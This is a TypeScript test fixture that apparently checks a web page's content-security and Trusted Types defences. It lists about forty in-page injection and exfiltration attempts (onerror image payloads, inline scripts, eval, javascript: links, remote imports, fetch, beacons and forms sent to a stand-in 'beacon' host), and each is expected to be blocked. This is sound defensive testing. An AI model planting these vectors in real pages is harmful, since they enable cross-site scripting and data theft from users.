/**
 * What a script that got into our own page would try first. Each stands alone: its source is put behind the page's own script, as if it were
 * part of it, because what a test's tools run in a page is not held by the page's policy. `beacon` is the address of a site that waits.
 */
export interface OwnPageAttack {
  readonly name: string
  readonly expected: string
  readonly inPage: (beacon: string) => Promise<string>
}

const attack = (name: string, expected: string, inPage: OwnPageAttack['inPage']): OwnPageAttack => ({
  name,
  expected,
  inPage,
})

/* eslint-disable @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call, @typescript-eslint/require-await -- what is forbidden here is what is tried */

export const ownPageAttacks: readonly OwnPageAttack[] = [
  attack('innerHTML', 'TypeError', async (beacon) => {
    document.createElement('div').innerHTML = `<img src="${beacon}" onerror="window.ran = 1">`
    return 'set'
  }),
  attack('outerHTML', 'TypeError', async () => {
    const inner = document.createElement('p')
    document.createElement('div').append(inner)
    inner.outerHTML = '<b>x</b>'
    return 'set'
  }),
  attack('insertAdjacentHTML', 'TypeError', async () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="window.ran = 1">')
    return 'set'
  }),
  attack('document.write', 'TypeError', async () => {
    document.write('<script>window.ran = 1</script>')
    return 'written'
  }),
  attack('createContextualFragment', 'TypeError', async () => {
    document.createRange().createContextualFragment('<script>window.ran = 1</script>')
    return 'made'
  }),
  attack('DOMParser', 'TypeError', async () => {
    new DOMParser().parseFromString('<b>x</b>', 'text/html')
    return 'parsed'
  }),
  attack('setHTMLUnsafe', 'TypeError', async () => {
    document.createElement('div').setHTMLUnsafe('<b>x</b>')
    return 'set'
  }),
  attack('innerHTML of a template', 'TypeError', async () => {
    document.createElement('template').innerHTML = '<b>x</b>'
    return 'set'
  }),
  attack('srcdoc', 'TypeError', async () => {
    document.createElement('iframe').srcdoc = '<script>parent.ran = 1</script>'
    return 'set'
  }),
  attack('eval', 'EvalError', async () => String((0, eval)('window.ran = 1'))),
  attack('Function', 'EvalError', async () => String(new Function('return (window.ran = 1)')())),
  attack('an async Function by its constructor', 'EvalError', async () => {
    const made = Object.getPrototypeOf(async () => undefined) as {
      constructor: (text: string) => () => unknown
    }
    return String(made.constructor('window.ran = 1')())
  }),
  attack('a timer with a string', 'nothing ran', async () => {
    try {
      Reflect.apply(setTimeout, window, ['window.ran = 1', 0])
      Reflect.apply(setInterval, window, ['window.ran = 1', 10])
    } catch {
      // Refused at once, or when its time comes.
    }
    await new Promise((resolve) => setTimeout(resolve, 100))
    return 'ran' in window ? 'ran' : 'nothing ran'
  }),
  attack('an inline script', 'TypeError', async () => {
    const script = document.createElement('script')
    script.textContent = 'window.ran = 1'
    document.body.append(script)
    return 'put in'
  }),
  attack('the text of a script', 'TypeError', async () => {
    document.createElement('script').text = 'window.ran = 1'
    return 'set'
  }),
  attack('an inline script by a text node', 'nothing ran', async () => {
    const script = document.createElement('script')
    script.append(document.createTextNode('window.ran = 1'))
    document.body.append(script)
    return 'ran' in window ? 'ran' : 'nothing ran'
  }),
  attack('a script from elsewhere', 'TypeError', async (beacon) => {
    document.createElement('script').src = `${beacon}/script`
    return 'set'
  }),
  attack('a script of our own by its address', 'TypeError', async () => {
    document.createElement('script').src = '/assets/other.js'
    return 'set'
  }),
  attack('a handler as an attribute', 'nothing ran', async () => {
    const button = document.createElement('button')
    try {
      button.setAttribute('onclick', 'window.ran = 1')
    } catch {
      // Refused at once, or when it is pressed.
    }
    document.body.append(button)
    button.click()
    button.remove()
    return 'ran' in window ? 'ran' : 'nothing ran'
  }),
  attack('a javascript: link', 'nothing ran', async () => {
    const link = document.createElement('a')
    link.href = 'javascript:window.ran = 1'
    document.body.append(link)
    link.click()
    await new Promise((resolve) => setTimeout(resolve, 100))
    link.remove()
    return 'ran' in window ? 'ran' : 'nothing ran'
  }),
  attack('a worker from a blob', 'TypeError', async () => {
    const url = URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))
    new Worker(url)
    return 'made'
  }),
  attack('a shared worker', 'TypeError', async () => {
    new SharedWorker('/assets/other.js')
    return 'made'
  }),
  attack('a service worker', 'TypeError', async () => {
    await navigator.serviceWorker.register('/assets/other.js')
    return 'registered'
  }),
  attack('a module as data', 'TypeError', async () => {
    const address = 'data:text/javascript,window.ran=1'
    return String(await import(address))
  }),
  attack('a module from elsewhere', 'TypeError', async (beacon) => String(await import(`${beacon}/module`))),
  attack('a policy of its own', 'TypeError', async () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown }
    }
    return String(trustedTypes.createPolicy('other', { createHTML: (text: string) => text }))
  }),
  attack('a second policy of the page’s name', 'TypeError', async () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown }
    }
    return String(trustedTypes.createPolicy('default', { createHTML: (text: string) => text }))
  }),
  attack('an inline style', 'nothing drawn by it', async () => {
    const style = document.createElement('style')
    style.append(document.createTextNode('body { outline: 7px solid red }'))
    document.head.append(style)
    const { outlineWidth } = getComputedStyle(document.body)
    style.remove()
    return outlineWidth === '7px' ? 'drawn' : 'nothing drawn by it'
  }),
  attack('fetch to elsewhere', 'TypeError', async (beacon) =>
    String((await fetch(`${beacon}/fetch`)).status),
  ),
  attack('fetch to elsewhere, unread', 'TypeError', async (beacon) =>
    String((await fetch(`${beacon}/unread`, { mode: 'no-cors' })).type),
  ),
  attack('a beacon to elsewhere', 'sent nowhere', async (beacon) => {
    navigator.sendBeacon(`${beacon}/beacon`, 'words')
    return 'sent nowhere'
  }),
  attack('an XMLHttpRequest to elsewhere', 'error', async (beacon) => {
    return new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve('loaded')
      request.onerror = () => resolve('error')
      request.open('GET', `${beacon}/xhr`)
      request.send()
    })
  }),
  attack('a picture from elsewhere', 'error', async (beacon) => {
    return new Promise((resolve) => {
      const picture = new Image()
      picture.onload = () => resolve('loaded')
      picture.onerror = () => resolve('error')
      picture.src = `${beacon}/picture?words`
    })
  }),
  attack('a background from elsewhere', 'sent nowhere', async (beacon) => {
    document.body.style.backgroundImage = `url(${beacon}/background)`
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 100)))
    document.body.style.backgroundImage = ''
    return 'sent nowhere'
  }),
  attack('a style sheet from elsewhere', 'error', async (beacon) => {
    return new Promise((resolve) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.onload = () => resolve('loaded')
      link.onerror = () => resolve('error')
      link.href = `${beacon}/style`
      document.head.append(link)
    })
  }),
  attack('hints to elsewhere', 'sent nowhere', async (beacon) => {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) {
      const link = document.createElement('link')
      link.rel = rel
      link.href = `${beacon}/${rel}`
      document.head.append(link)
    }
    await new Promise((resolve) => setTimeout(resolve, 200))
    return 'sent nowhere'
  }),
  attack('a font from elsewhere', 'NetworkError', async (beacon) => {
    await new FontFace('Elsewhere', `url(${beacon}/font)`).load()
    return 'loaded'
  }),
  attack('a web socket to elsewhere', 'closed', async (beacon) => {
    return new Promise((resolve) => {
      const socket = new WebSocket(`${beacon.replace('http', 'ws')}/socket`)
      socket.onopen = () => resolve('open')
      socket.onerror = () => resolve('closed')
    })
  }),
  attack('an event source elsewhere', 'error', async (beacon) => {
    return new Promise((resolve) => {
      const source = new EventSource(`${beacon}/events`)
      source.onopen = () => resolve('open')
      source.onerror = () => {
        source.close()
        resolve('error')
      }
    })
  }),
  attack('a frame, a film and a sound from elsewhere', 'sent nowhere', async (beacon) => {
    for (const tag of ['iframe', 'video', 'audio'] as const) {
      const element = document.createElement(tag)
      element.src = `${beacon}/${tag}`
      document.body.append(element)
    }
    await new Promise((resolve) => setTimeout(resolve, 300))
    return 'sent nowhere'
  }),
  attack('something embedded from elsewhere', 'TypeError', async (beacon) => {
    document.createElement('embed').src = `${beacon}/embed`
    return 'set'
  }),
  attack('an object from elsewhere', 'TypeError', async (beacon) => {
    document.createElement('object').data = `${beacon}/object`
    return 'set'
  }),
  attack('a form posted to elsewhere', 'sent nowhere', async (beacon) => {
    const form = document.createElement('form')
    form.method = 'post'
    form.action = `${beacon}/form`
    document.body.append(form)
    form.submit()
    await new Promise((resolve) => setTimeout(resolve, 200))
    return 'sent nowhere'
  }),
  attack('another base for every address', 'ours', async (beacon) => {
    const base = document.createElement('base')
    base.href = beacon
    document.head.append(base)
    const { href } = new URL('x', document.baseURI)
    base.remove()
    return href.startsWith(location.origin) ? 'ours' : href
  }),
  attack('anything of Node', 'none', async () => {
    const found = ['require', 'process', 'Buffer', 'module', 'global'].filter((name) => name in window)
    return found.length === 0 ? 'none' : found.join()
  }),
  attack('a cookie', 'none', async () => (document.cookie === '' ? 'none' : document.cookie)),
]

/** A script that tries them all once the page has started, and leaves what came of them in `window.attackResults`. */
export function ownPageScript(beacon: string): string {
  const parts = ownPageAttacks.map(({ name, inPage }) => `[${JSON.stringify(name)}, ${inPage.toString()}]`)
  return `
;setTimeout(async () => {
  const results = []
  for (const [name, inPage] of [${parts.join(',\n')}]) {
    results.push([name, await inPage(${JSON.stringify(beacon)}).catch((error) => error.name)])
  }
  window.attackResults = results
}, 500)`
}
